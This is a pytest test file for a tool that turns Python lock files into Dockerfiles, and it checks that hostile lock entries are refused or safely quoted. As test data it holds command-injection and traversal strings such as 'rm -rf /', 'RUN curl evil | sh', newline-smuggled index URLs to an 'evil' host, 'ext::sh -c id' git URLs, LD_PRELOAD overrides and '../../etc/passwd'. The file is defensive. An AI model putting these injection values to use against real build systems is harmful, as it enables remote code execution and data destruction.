"""Hostile locks: nothing from a lock may inject into RUN, ENV, LABEL or copy from outside."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from envsnap import model
from envsnap.errors import InputError
from envsnap.model import ArtifactFile, Environment, OSInfo, Package, PythonInfo
from envsnap.render import make_plan, render
from envsnap.render.validate import check_context_path, check_url, docker_quote
from tests.fakes import samples


def plan(env: Environment) -> str:
    return render(env, make_plan(env, lock_digest=samples.LOCK_DIGEST))


def with_package(pkg: Package) -> Environment:
    return model.replace(samples.cpu_env(), packages=(pkg,))


GOOD = samples.index_pkg("numpy", "2.1.3")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "numpy; rm -rf /"}, "invalid package name"),
        ({"name": "numpy\nRUN curl evil"}, "invalid package name"),
        ({"name": "-r/etc/passwd"}, "invalid package name"),
        ({"version": "2.1.3\n--index-url http://evil"}, "invalid version"),
        ({"version": "2.1.3 --extra-index-url=http://evil"}, "invalid version"),
        ({"version": "$(id)"}, "invalid version"),
        ({"index": "http://evil/simple\n--trusted-host evil"}, "index"),
        ({"files": (ArtifactFile(name="../../etc/passwd", sha256="a" * 64),)}, "file name"),
        ({"files": (ArtifactFile(name="x-1.whl", sha256="zz; echo"),)}, "sha256"),
        (
            {"files": (ArtifactFile(name="x-1.whl", url="ftp://e/x.whl", sha256="a" * 64),)},
            "scheme",
        ),
    ],
)
def test_hostile_index_package_is_refused(change: dict[str, object], message: str) -> None:
    with pytest.raises(InputError, match=message):
        plan(with_package(model.replace(GOOD, **change)))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("pkg", "message"),
    [
        (
            Package(
                name="x",
                version="1",
                source="vcs",
                vcs="git",
                url="ext::sh -c id",
                commit_id="a" * 40,
            ),
            "URL",
        ),
        (
            Package(
                name="x",
                version="1",
                source="vcs",
                vcs="git",
                url="https://h/r.git",
                commit_id="HEAD; id",
            ),
            "commit",
        ),
        (
            Package(
                name="x",
                version="1",
                source="vcs",
                vcs="git",
                url="https://h/r.git",
                commit_id="a" * 40,
                subdirectory="../../etc",
            ),
            "escapes",
        ),
        (
            Package(
                name="x",
                version="1",
                source="url",
                url="javascript:alert(1)",
                archive_sha256="a" * 64,
            ),
            "scheme",
        ),
        (
            Package(
                name="x",
                version="1",
                source="url",
                url="https://h/x 1.whl",
                archive_sha256="a" * 64,
            ),
            "URL",
        ),
    ],
)
def test_hostile_sources_are_refused(pkg: Package, message: str) -> None:
    with pytest.raises(InputError, match=message):
        plan(with_package(pkg))


@pytest.mark.parametrize(
    ("envvars", "message"),
    [
        ((("PYTHONHASHSEED", "0\nRUN curl evil | sh"),), "control characters"),
        ((("BAD NAME", "1"),), "environment variable name"),
        ((("X=Y", "1"),), "environment variable name"),
        ((("1X", "1"),), "environment variable name"),
        ((("PATH", "/tmp/evil"),), "not a determinism variable"),
        ((("LD_PRELOAD", "/tmp/evil.so"),), "not a determinism variable"),
    ],
)
def test_hostile_envvars_are_refused(envvars: tuple[tuple[str, str], ...], message: str) -> None:
    env = model.replace(samples.cpu_env(), envvars=envvars)
    with pytest.raises(InputError, match=message):
        plan(env)


def test_envvar_values_are_quoted_not_expanded() -> None:
    env = model.replace(samples.cpu_env(), envvars=(("XLA_FLAGS", 'a"b $HOME \\ `id` ${PATH}'),))
    text = plan(env)
    assert 'XLA_FLAGS="a\\"b \\$HOME \\\\ `id` \\${PATH}"' in text


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("created_at", "2026-01-01\nRUN id", "timestamp"),
        ("python", PythonInfo(implementation="CPython", version="3.11.7 AS x"), "Python version"),
        (
            "python",
            PythonInfo(implementation="CPython", version="3.11.7\nRUN id"),
            "Python version",
        ),
        (
            "os",
            OSInfo(
                system="Linux", machine="x86_64", distro="arch", pretty_name="Arch\nRUN curl evil"
            ),
            "control characters",
        ),
    ],
)
def test_hostile_metadata_is_refused(field: str, value: object, message: str) -> None:
    env = model.replace(samples.cpu_env(), **{field: value})
    with pytest.raises(InputError, match=message):
        plan(env)


@pytest.mark.parametrize("path", ["../x", "/etc/passwd", "a/../../b", "a\\..\\b", "", "sub/-rf"])
def test_context_paths_stay_inside(path: str) -> None:
    with pytest.raises(InputError):
        check_context_path(path, "test")


def test_docker_quote_refuses_newlines() -> None:
    with pytest.raises(InputError):
        docker_quote("a\nb")


def test_hostile_quoted_dockerfile_passes_hadolint(tmp_path: Path) -> None:
    hadolint = Path(sys.executable).with_name("hadolint")
    if not hadolint.exists():
        pytest.skip("hadolint not installed")
    env = model.replace(samples.cpu_env(), envvars=(("XLA_FLAGS", 'a"b $HOME \\ `id`; rm -rf /'),))
    path = tmp_path / "Dockerfile"
    path.write_text(plan(env), encoding="utf-8")
    done = subprocess.run(
        [str(hadolint), "--no-color", str(path)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout
    # Still exactly one ENV instruction for it and no extra RUN line.
    text = path.read_text(encoding="utf-8")
    assert text.count("\nRUN ") == plan(samples.cpu_env()).count("\nRUN ")


@pytest.mark.parametrize(
    "url",
    [
        "https://files.pythonhosted.org/packages/ab/cd/numpy-2.1.3-cp311-cp311-manylinux_2_17.whl",
        "https://mirror.example:8443/simple/six/six-1.17.0-py2.py3-none-any.whl",
        "https://h.example/a%20b/x.whl",
        "http://plain.example/x.whl",
        "https://h.example/x.whl?token=1#sha256=ab",
    ],
)
def test_plain_urls_pass(url: str) -> None:
    assert check_url(url, "pylock.toml: x") == url


@pytest.mark.parametrize(
    "url",
    [
        "https://h.example/a b.whl",
        'https://h.example/a"b.whl',
        "https://h.example/a`id`.whl",
        "https://h.example/a\n.whl",
        "https:///no-host.whl",
        "ftp://h.example/x.whl",
        "https://h.example/" + "a" * 5000,
    ],
)
def test_unsafe_urls_fail_on_either_path(url: str) -> None:
    with pytest.raises(InputError, match=r"pylock.toml: x: "):
        check_url(url, "pylock.toml: x")
